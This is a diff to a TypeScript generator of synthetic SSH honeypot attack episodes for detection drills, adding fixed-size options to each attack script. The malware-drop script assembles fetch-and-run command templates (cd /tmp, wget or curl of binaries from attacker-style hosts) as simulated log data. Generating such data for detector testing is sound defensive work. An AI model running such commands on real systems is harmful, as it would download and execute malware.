@@ -2,7 +2,8 @@
  * The six attack scripts (one per ATTACK_TYPES entry): brute force, credential stuffing, a
  * port scan through SSH tunnels, a traffic spike, a malware drop and a person's unusual
  * shell session. Each scripts its sessions from `startUs` within `budget` events and
- * returns the source addresses it used.
+ * returns the source addresses it used. The generator lets each draw its own size; a drill
+ * into a real log sets the size (EpisodeSize) to reach a chosen intensity.
  */
 import type { AttackType } from "../../../domain/attack-types";
 import type { SeededRandom } from "../../../stats/seeded-random";
@@ -19,18 +20,45 @@ export interface EpisodeSetting {
   readonly budget: number;
   /** Background sessions per second, which a traffic spike must exceed many-fold. */
   readonly backgroundSessionsPerSecond: number;
+  /** Fixed sizes; what is left out is drawn at random, as the generator does. */
+  readonly size?: EpisodeSize;
+}
+
+/** How big an episode is, in the numbers a detection rule counts. Each applies to the types named. */
+export interface EpisodeSize {
+  /** brute-force: failed logins in all. */
+  readonly attempts?: number;
+  /** brute-force: seconds the attempts span; credential-stuffing: seconds its sources arrive over. */
+  readonly spanSeconds?: number;
+  /** credential-stuffing: source addresses. */
+  readonly sources?: number;
+  /**
+   * credential-stuffing: every source tries these many pairs, the same for all (a shared combo
+   * list); unset, each source tries pairs of its own.
+   */
+  readonly sharedCredentials?: number;
+  /** port-scan/tunnel: distinct forwarded ports. */
+  readonly ports?: number;
+  /** traffic-spike: sessions in all, and how fast they arrive. */
+  readonly sessions?: number;
+  readonly sessionsPerSecond?: number;
+  /** malware-drop: binaries fetched and run. */
+  readonly payloads?: number;
+  /** unusual-behaviour: rare commands, and kilobyte-long odd inputs among them. */
+  readonly commands?: number;
+  readonly oddInputs?: number;
 }
 
 export type EpisodeScript = (writer: ScriptWriter, setting: EpisodeSetting) => string[];
 
 /** One address, a few parallel sessions, hundreds of failed logins in 30-60 seconds. */
-function scriptBruteForce(writer: ScriptWriter, { startUs, budget }: EpisodeSetting): string[] {
+function scriptBruteForce(writer: ScriptWriter, { startUs, budget, size = {} }: EpisodeSetting): string[] {
   const r = writer.random;
   const ip = writer.sources.forEpisode();
   const client = r.pickWeighted(BRUTE_FORCE_CLIENTS);
   const sessions = r.integer(3, 6);
-  const attempts = Math.max(sessions * 10, Math.min(r.integer(200, 450), budget - 5 * sessions));
-  const spanSeconds = r.uniform(30, 60);
+  const attempts = size.attempts ?? Math.max(sessions * 10, Math.min(r.integer(200, 450), budget - 5 * sessions));
+  const spanSeconds = size.spanSeconds ?? r.uniform(30, 60);
   const fixedUser = r.chance(0.6) ? "root" : undefined;
   let attempt = 0;
   for (let k = 0; k < sessions; k++) {
@@ -44,12 +72,13 @@ function scriptBruteForce(writer: ScriptWriter, { startUs, budget }: EpisodeSett
 }
 
 /** Many addresses of one botnet, each a few distinct leaked credentials, in a minute or two. */
-function scriptCredentialStuffing(writer: ScriptWriter, { startUs, budget }: EpisodeSetting): string[] {
+function scriptCredentialStuffing(writer: ScriptWriter, { startUs, budget, size = {} }: EpisodeSetting): string[] {
   const r = writer.random;
   const client = r.pickWeighted([[GO_CURVE25519, 3], [PARAMIKO, 1]] as const);
-  const windowSeconds = r.uniform(45, 120);
-  const sourceCount = Math.max(3, Math.min(r.integer(25, 60), Math.floor(budget / 12)));
+  const windowSeconds = size.spanSeconds ?? r.uniform(45, 120);
+  const sourceCount = size.sources ?? Math.max(3, Math.min(r.integer(25, 60), Math.floor(budget / 12)));
   const tried = new Set<string>();
+  const shared = Array.from({ length: size.sharedCredentials ?? 0 }, () => leakedCredential(r, tried));
   const ips: string[] = [];
   for (let i = 0; i < sourceCount; i++) {
     const ip = writer.sources.forEpisode();
@@ -58,8 +87,8 @@ function scriptCredentialStuffing(writer: ScriptWriter, { startUs, budget }: Epi
     const sessions = r.chance(0.2) ? 2 : 1;
     for (let k = 0; k < sessions; k++) {
       const s = writer.open(ip, startOfSession).connect().handshake(client);
-      const attempts = r.integer(2, 4);
-      for (let a = 0; a < attempts; a++) s.wait(r.uniform(0.3, 1.5)).loginFailed(...leakedCredential(r, tried));
+      const attempts = shared.length > 0 ? shared.length : r.integer(2, 4);
+      for (let a = 0; a < attempts; a++) s.wait(r.uniform(0.3, 1.5)).loginFailed(...(shared.length > 0 ? shared[a] : leakedCredential(r, tried)));
       s.wait(r.uniform(0.05, 0.3)).closed();
       startOfSession = s.nowUs + seconds(r.uniform(0.5, 3));
     }
@@ -68,12 +97,12 @@ function scriptCredentialStuffing(writer: ScriptWriter, { startUs, budget }: Epi
 }
 
 /** One address logs in and asks the honeypot to forward connections to many ports. */
-function scriptPortScanTunnel(writer: ScriptWriter, { startUs, budget }: EpisodeSetting): string[] {
+function scriptPortScanTunnel(writer: ScriptWriter, { startUs, budget, size = {} }: EpisodeSetting): string[] {
   const r = writer.random;
   const ip = writer.sources.forEpisode();
   const client = r.pickWeighted([[GO_CURVE25519, 2], [OPENSSH_8, 1], [PARAMIKO, 1]] as const);
   const sessions = r.integer(1, 3);
-  const portCount = Math.max(10, Math.min(r.integer(60, 220), budget - 7 * sessions));
+  const portCount = size.ports ?? Math.max(10, Math.min(r.integer(60, 220), budget - 7 * sessions));
   const ports = distinctPorts(r, portCount);
   const target = r.pick(["127.0.0.1", `10.0.${r.integer(0, 3)}.${r.integer(1, 254)}`, `192.168.1.${r.integer(1, 254)}`, writer.sources.anyPublic()]);
   let startOfSession = startUs;
@@ -97,11 +126,11 @@ function distinctPorts(r: SeededRandom, count: number): number[] {
 }
 
 /** A wave of short sessions from many addresses, many times the background session rate. */
-function scriptTrafficSpike(writer: ScriptWriter, { startUs, budget, backgroundSessionsPerSecond }: EpisodeSetting): string[] {
+function scriptTrafficSpike(writer: ScriptWriter, { startUs, budget, backgroundSessionsPerSecond, size = {} }: EpisodeSetting): string[] {
   const r = writer.random;
   // Ten to thirty times the background, and never slower than a scan wave's 1-4 sessions a second.
-  const sessionsPerSecond = Math.max(r.uniform(10, 30) * backgroundSessionsPerSecond, r.uniform(1, 4));
-  const sessionCount = Math.max(10, Math.min(r.integer(150, 400), Math.floor(budget / 6)));
+  const sessionsPerSecond = size.sessionsPerSecond ?? Math.max(r.uniform(10, 30) * backgroundSessionsPerSecond, r.uniform(1, 4));
+  const sessionCount = size.sessions ?? Math.max(10, Math.min(r.integer(150, 400), Math.floor(budget / 6)));
   const ips: string[] = [];
   let arrivalUs = startUs;
   let remaining = sessionCount;
@@ -121,7 +150,7 @@ function scriptTrafficSpike(writer: ScriptWriter, { startUs, budget, backgroundS
 }
 
 /** Log in, fetch a binary with wget or curl, make it executable and run it. */
-function scriptMalwareDrop(writer: ScriptWriter, { startUs }: EpisodeSetting): string[] {
+function scriptMalwareDrop(writer: ScriptWriter, { startUs, size = {} }: EpisodeSetting): string[] {
   const r = writer.random;
   const ip = writer.sources.forEpisode();
   const client = r.pickWeighted([[GO_CURVE25519, 2], [LIBSSH2, 1], [OPENSSH_8, 1]] as const);
@@ -132,7 +161,7 @@ function scriptMalwareDrop(writer: ScriptWriter, { startUs }: EpisodeSetting): s
   s.wait(r.uniform(0.1, 0.6)).command(r.pick(["cd /tmp", "cd /tmp || cd /var/run || cd /dev/shm", "cd /dev/shm; mkdir .x; cd .x"]));
   const host = r.chance(0.7) ? writer.sources.anyPublic() : r.pick(MALWARE_HOSTS);
   const port = r.chance(0.3) ? `:${r.pick([8080, 81, 666, 3389])}` : "";
-  const payloads = r.shuffled(MALWARE_NAMES).slice(0, r.chance(0.35) ? 2 : 1);
+  const payloads = r.shuffled(MALWARE_NAMES).slice(0, size.payloads ?? (r.chance(0.35) ? 2 : 1));
   for (const name of payloads) {
     const url = `http://${host}${port}/${r.pick(["bins", "x", ".s", "dl"])}/${name}`;
     const fetch = r.pick([`wget ${url}`, `curl -O ${url}`, `wget -q ${url} -O ${name} || curl -s -o ${name} ${url}`]);
@@ -147,14 +176,14 @@ function scriptMalwareDrop(writer: ScriptWriter, { startUs }: EpisodeSetting): s
 }
 
 /** A person at a shell running tools that bots never run, and pasting kilobytes of oddities. */
-function scriptUnusualBehaviour(writer: ScriptWriter, { startUs }: EpisodeSetting): string[] {
+function scriptUnusualBehaviour(writer: ScriptWriter, { startUs, size = {} }: EpisodeSetting): string[] {
   const r = writer.random;
   const ip = writer.sources.forEpisode();
   const s = writer.open(ip, startUs).connect().handshake(r.pickWeighted(HUMAN_CLIENTS));
   s.wait(r.uniform(3, 10)).loginSucceeded(...acceptedCredentials(r));
   s.wait(r.uniform(0.2, 0.5)).terminal().wait(r.uniform(0.001, 0.003)).sessionParams();
-  const commands = r.shuffled(RARE_COMMANDS).slice(0, r.integer(6, 14));
-  const oddInputs = r.integer(1, 2);
+  const commands = r.shuffled(RARE_COMMANDS).slice(0, size.commands ?? r.integer(6, 14));
+  const oddInputs = size.oddInputs ?? r.integer(1, 2);
   for (let i = 0; i < oddInputs; i++) commands.splice(r.integer(0, commands.length), 0, oddInput(r));
   for (const command of commands) s.wait(r.uniform(2, 15)).command(command);
   s.wait(r.uniform(1, 5)).ttyClosed().wait(r.uniform(0.001, 0.01)).closed();
